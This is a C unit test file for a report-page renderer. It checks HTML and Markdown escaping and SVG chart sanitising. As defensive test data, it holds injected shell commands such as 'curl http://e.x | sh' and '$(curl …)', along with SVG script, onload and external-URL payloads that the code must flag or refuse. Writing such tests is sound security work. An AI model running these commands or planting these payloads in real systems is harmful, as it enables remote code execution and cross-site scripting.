/* test_report_page.c - a page's parts as HTML and as Markdown, and pictures inside it. */
/* sanitizers: one thread */
#include "tests/test.h"
#include "tests/page_check.h"

#include "common/escape.h"
#include "harness/report/page.h"
#include "harness/report/part.h"
#include "harness/report/svg.h"

#include <errno.h>
#include <jansson.h>
#include <string.h>
#include <unistd.h>

TestSuite(small_report_page, .timeout = 60);

/* ---- commands ----------------------------------------------------------------------------- */

/* Records come from strangers: what would have a shell do more than run rift is no command. */
Test(small_report_page, commands_of_records)
{
	static const struct {
		const char *command;
		bool shown; /* as one */
	} rows[] = {
		{ "rift sweep launch --against 'env A=$PWD' --quick", true },
		{ "rift sweep launch; curl http://e.x | sh", false },
		{ "rift sweep $(curl http://e.x)", false },
		{ "rift sweep `curl http://e.x`", false },
		{ "rift sweep launch\ncurl", false },
		{ "curl http://e.x", false },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		char *text = NULL;
		size_t size;
		FILE *out = open_memstream(&text, &size);
		struct page p;

		page_begin(&p, out, PAGE_MARKDOWN, "title");
		part_recorded_command(&p, rows[i].command);
		page_end(&p);
		fclose(out);
		cr_expect(eq(int, tells(text, "read before it is typed") != 0, !rows[i].shown),
			  "%s", text);
		free(text);
	}
}

/* ---- texts ------------------------------------------------------------------------------ */

static char *escaped(void (*escape)(FILE *out, const char *text), const char *text)
{
	char *out = NULL;
	size_t size;
	FILE *f = open_memstream(&out, &size);

	escape(f, text);
	fclose(f);
	return out;
}

static void becomes(void (*escape)(FILE *out, const char *text), const char *text, const char *want)
{
	char *got = escaped(escape, text);

	cr_expect(eq(str, got, (char *)(uintptr_t)want), "%s", text);
	free(got);
}

Test(small_report_page, html_shows_every_text_as_it_is)
{
	becomes(escape_html, "<b a=\"1\" c='2'>&", "&lt;b a=&quot;1&quot; c=&#39;2&#39;&gt;&amp;");
	becomes(escape_html, "5 \302\265s, \303\274, \360\237\230\200",
		"5 \302\265s, \303\274, \360\237\230\200");
	becomes(escape_html, "a\033[1m\177\n\t\302\233", "a\\x1b[1m\\x7f\\n\\t\\u009b");
}

/* Directions, no width, line ends of Unicode, a byte order mark; and what lies next to them. */
Test(small_report_page, what_is_not_seen_is_an_escape)
{
	becomes(escape_html, "\342\200\256x", "\\u202ex");
	becomes(escape_html, "\342\201\246\342\201\251", "\\u2066\\u2069");
	becomes(escape_html, "\342\200\213\342\200\217\342\200\252", "\\u200b\\u200f\\u202a");
	becomes(escape_html, "\330\234\357\273\277", "\\u061c\\ufeff");
	becomes(escape_html, "\363\240\200\201", "\\ue0001");
	becomes(escape_html, "\342\200\212\342\200\220", "\342\200\212\342\200\220");
}

/* Bytes that are no UTF-8: alone, cut off, too long, half of a pair, beyond the last character. */
Test(small_report_page, bytes_that_are_no_text_are_escapes)
{
	becomes(escape_html, "a\377b", "a\\xffb");
	becomes(escape_html, "\342\200", "\\xe2\\x80");
	becomes(escape_html, "\300\274", "\\xc0\\xbc");
	becomes(escape_html, "\340\200\274", "\\xe0\\x80\\xbc");
	becomes(escape_html, "\355\240\200", "\\ud800");
	becomes(escape_html, "\364\220\200\200", "\\u110000");
}

Test(small_report_page, markdown_takes_no_text_as_markup)
{
	becomes(escape_markdown, "a|b `c` *d* _e_ [f](g) ~h~ <i> &j; $k$ \\",
		"a\\|b \\`c\\` \\*d\\* \\_e\\_ \\[f\\](g) \\~h\\~ &lt;i&gt; &amp;j; \\$k\\$ \\\\");
	becomes(escape_markdown, "@all #12 http://x", "@<!-- -->all #<!-- -->12 http:<!-- -->//x");
	becomes(escape_markdown, "\n\033", "\\\\n\\\\x1b");
}

/* ---- pages ------------------------------------------------------------------------------ */

/* Every part, with this text in it. */
static char *page_with(enum page_format format, const char *text)
{
	const char *const heads[] = { text, "n" };
	char *out = NULL;
	size_t size;
	FILE *f = open_memstream(&out, &size);
	struct page p;

	page_begin(&p, f, format, text);
	page_finding(&p, TONE_SLOWER, "%s", text);
	page_small(&p, "%s", text);
	page_contents(&p, heads, 2);
	page_section(&p, text);
	page_text(&p, "%s", text);
	page_item(&p, "%s", text);
	page_table(&p, text, heads, 2);
	for (int i = 0; i < 2 * PAGE_ROWS_BRIEF + 2; i++)
		page_cell_of(&p, TONE_WRONG, "%s", text);
	page_section(&p, "n");
	page_command(&p, "%s", text);
	page_command(&p, "```");
	page_fold(&p, text, text);
	page_chart(&p, "/nowhere.svg", text);
	page_end(&p);
	fclose(f);
	return out;
}

Test(small_report_page, no_text_is_markup_in_any_part)
{
	char *html = page_with(PAGE_HTML, HOSTILE);

	page_is_safe(html);
	cr_expect(tells(html, "&lt;script&gt;alert(1)"), "the text is shown");
	cr_expect(tells(html, "A chart is missing here"), "said");
	free(html);
	html = page_with(PAGE_MARKDOWN, HOSTILE);
	markdown_is_safe(html);
	*strstr(html, "```sh") = '\0'; /* code calls nobody */
	cr_expect(zero(ptr, strstr(html, "@all")), "nobody is called");
	free(html);
}

static int count(const char *text, const char *what)
{
	int n = 0;

	for (; (text = strstr(text, what)); text++)
		n++;
	return n;
}

Test(small_report_page, what_is_opened_is_closed)
{
	static const char *const pairs[][2] = {
		{ "<section", "</section>" }, { "<ul>", "</ul>" },	     { "<tr>", "</tr>" },
		{ "<table>", "</table>" },    { "<div", "</div>" },	     { "<pre>", "</pre>" },
		{ "<figure>", "</figure>" },  { "<details>", "</details>" },
	};
	char *html = page_with(PAGE_HTML, "x");

	for (size_t i = 0; i < sizeof(pairs) / sizeof(*pairs); i++)
		cr_expect(eq(int, count(html, pairs[i][0]), count(html, pairs[i][1])), "%s",
			  pairs[i][0]);
	cr_expect(eq(int, count(html, "<tr>"), PAGE_ROWS_BRIEF + 2), "all rows and the head");
	cr_expect(tells(html, "<a href=\"#s2\">n</a>"), "%s", html);
	cr_expect(tells(html, "<section id=\"s2\">"), "%s", html);
	free(html);
}

Test(small_report_page, markdown_is_short)
{
	char *text = page_with(PAGE_MARKDOWN, "x");

	cr_expect(tells(text, "and 1 more; the whole report has them"), "%s", text);
	cr_expect(tells(text, "| x | x |\n"), "%s", text);
	cr_expect(tells(text, "**x**\n"), "%s", text);
	cr_expect(zero(ptr, strstr(text, "<svg")), "no chart");
	cr_expect(lt(int, count(text, "\n"), 60), "%d", count(text, "\n"));
	free(text);
}

/* As many rows as there is room for, and one more. */
Test(small_report_page, markdown_leaves_out_rows_behind_the_first)
{
	const char *const heads[] = { "head", "n" };

	for (int more = 0; more < 2; more++) {
		char *text = NULL;
		size_t size;
		FILE *f = open_memstream(&text, &size);
		struct page p;

		page_begin(&p, f, PAGE_MARKDOWN, "title");
		page_table(&p, "rows", heads, 2);
		for (int i = 0; i < 2 * (PAGE_ROWS_BRIEF + more); i++)
			page_cell(&p, "<%d>", i);
		page_end(&p);
		fclose(f);
		cr_expect(eq(int, count(text, "\n| "), 1 + PAGE_ROWS_BRIEF), "%s", text);
		cr_expect(eq(int, count(text, "&lt;"), 2 * PAGE_ROWS_BRIEF), "%s", text);
		cr_expect(eq(int, count(text, " more; "), more), "%s", text);
		cr_expect(eq(int, count(text, " | "), 1 + PAGE_ROWS_BRIEF), "%s", text);
		free(text);
	}
}

static char *differences(json_t *rows)
{
	char *out = NULL;
	size_t size;
	FILE *f = open_memstream(&out, &size);
	struct page p;

	page_begin(&p, f, PAGE_MARKDOWN, "title");
	part_differences(&p, rows, "left", "right");
	page_end(&p);
	fclose(f);
	json_decref(rows);
	return out;
}

/* 240 bytes at most, cut between characters, and with dots where something is missing. */
Test(small_report_page, values_that_differ_are_cut)
{
	char whole[241], more[242], split[242], want[600];
	char *text;

	memset(whole, 'x', 240);
	memset(more, 'x', 241);
	whole[240] = more[241] = '\0';
	strcpy(split, more);
	memcpy(split + 236, "\303\274", 2);
	text = differences(json_pack("[{s:s, s:s, s:s}, {s:s, s:s, s:[i, i]}, {s:s}]", "field",
				     "one", "a", whole, "b", more, "field", "two", "a", split, "b",
				     1, 2, "field", "three"));
	snprintf(want, sizeof(want), "| one | %s | %.237s... |\n", whole, more);
	cr_expect(tells(text, want), "%s", text);
	snprintf(want, sizeof(want), "| two | %.236s... | \\[1,2\\] |\n", more);
	cr_expect(ne(ptr, strstr(text, want), NULL), "%s", text);
	cr_expect(tells(text, "| three | not recorded | not recorded |\n"), "%s", text);
	free(text);
	text = differences(json_array());
	cr_expect(tells(text, "Nothing differs, as far as it is recorded."), "%s", text);
	free(text);
}

/* ---- pictures --------------------------------------------------------------------------- */

static int inlined(const char *svg, char **out)
{
	size_t size;
	FILE *f = open_memstream(out, &size);
	int err = svg_inline_text(f, svg, 3, "a \"b\"");

	fclose(f);
	return err;
}

#define HEAD                                                                                       \
	"<?xml version=\"1.0\"?>\n<svg viewBox=\"0 0 9 "                                           \
	"9\">\n<title>Gnuplot</title>\n<desc>by</desc>"

Test(small_report_page, a_picture_is_one_image_with_ids_of_its_own)
{
	char *out;

	cr_assert(zero(int, inlined(HEAD "<defs><path id='gpPt0' d='M0,0'/></defs>"
					 "<g id=\"x\" fill = 'url(#p)' stroke='#aabbcc'>"
					 "<title>tip</title><use xlink:href='#gpPt0'/>"
					 "<text>a &lt; b</text></g></svg>",
				    &out)));
	cr_expect(eq(str, out,
		     "<svg role=\"img\" aria-label=\"a &quot;b&quot;\" viewBox=\"0 0 9 9\">\n\n"
		     "<defs><path id='c3-gpPt0' d='M0,0'/></defs>"
		     "<g id=\"c3-x\" fill='url(#c3-p)' stroke='#aabbcc'>"
		     "<use xlink:href='#c3-gpPt0'/><text>a &lt; b</text></g></svg>"),
		  "%s", out);
	free(out);
}

/* Lines and tabs stay; what begins like a look is one, and a URL within the file may be quoted. */
Test(small_report_page, what_draws_is_kept)
{
	static const char *const kept[] = {
		"<g fill='url(\"#c3-a\")' stroke-width='2'/></svg>",
		"<g filter='url(#c3-a)' clip-path='url(#c3-b)' font-size=\"12\"></g></svg>",
		"<text>\n\tone\n\t\ttwo</text></svg>",
		"<path style='fill:url(#a);stroke:none' d='M0\n\t1 ~'/></svg>",
		"<g class='curls of url' style=''/></svg>",
	};
	char *out;

	for (size_t i = 0; i < sizeof(kept) / sizeof(*kept); i++) {
		char svg[400], want[600], *at;
		size_t n = 0;

		for (const char *c = kept[i]; *c; c++) { /* without the chart's number */
			c += !strncmp(c, "c3-", 3) ? 3 : 0;
			svg[n++] = *c;
		}
		svg[n] = '\0';
		snprintf(want, sizeof(want), HEAD "%s", svg);
		cr_expect(zero(int, inlined(want, &out)), "%s", want);
		at = strchr(out, '>') + 3;
		cr_expect(eq(str, at, (char *)(uintptr_t)kept[i]), "%s", out);
		free(out);
	}
}

/* A picture's file that is there, that is empty and that is not. */
Test(small_report_page, a_picture_is_read_from_its_file)
{
	static const char *const texts[] = { HEAD "</svg>", "", "x" };
	static const int want[] = { 0, -EIO, -EINVAL };
	char path[] = "/tmp/rift-picture-XXXXXX", *out;
	int fd = mkstemp(path);

	cr_assert(le(int, 0, fd), "%s", path);
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		size_t size, n = strlen(texts[i]);
		FILE *f = open_memstream(&out, &size);

		cr_assert(zero(int, ftruncate(fd, 0)));
		cr_assert(eq(int, (int)pwrite(fd, texts[i], n, 0), (int)n));
		cr_expect(eq(int, svg_inline(f, path, 1, "words"), want[i]), "'%s'", texts[i]);
		fclose(f);
		cr_expect(eq(int, *out != 0, !want[i]), "%s", out);
		free(out);
	}
	close(fd);
	unlink(path);
	cr_expect(eq(int, svg_inline(stderr, path, 1, "words"), -ENOENT));
}

Test(small_report_page, what_does_more_than_draw_is_refused)
{
	static const char *const pictures[] = {
		HEAD "<script>alert(1)</script></svg>",
		HEAD "<g onload='alert(1)'/></svg>",
		HEAD "<use xlink:href='http://e.x/#a'/></svg>",
		HEAD "<use xlink:href=''/></svg>",
		HEAD "<g fill='url(http://e.x/a)'/></svg>",
		HEAD "<path style='fill:url(http://e.x/a)'/></svg>",
		HEAD "<path style='fill:url(#a);background:url(//e.x/a)'/></svg>",
		HEAD "<path style='fill:URL(http://e.x/a)'/></svg>",
		HEAD "<foreignObject/></svg>",
		HEAD "<image href='x'/></svg>",
		HEAD "<g fill=red/></svg>",
		HEAD "<g fill='a<b'/></svg>",
		HEAD "<g fill='\303\274'/></svg>",
		HEAD "<g fill='\x1b'/></svg>",
		HEAD "<g fill='\x7f'/></svg>",
		HEAD "<g fill-='red'/></svg>",
		HEAD "<use xlink:href='a#b'/></svg>",
		HEAD "<g fill='url(\"a\")'/></svg>",
		HEAD "<g fill='red",
		HEAD "<title>open",
		HEAD "<title>open</title",
		HEAD "<title><desc>in</desc></title></svg>",
		HEAD "<!-- x --></svg>",
		"no picture",
	};
	char *out;

	for (size_t i = 0; i < sizeof(pictures) / sizeof(*pictures); i++) {
		cr_expect(eq(int, inlined(pictures[i], &out), -EINVAL), "%s", pictures[i]);
		cr_expect(eq(str, out, ""), "%s", out);
		free(out);
	}
}
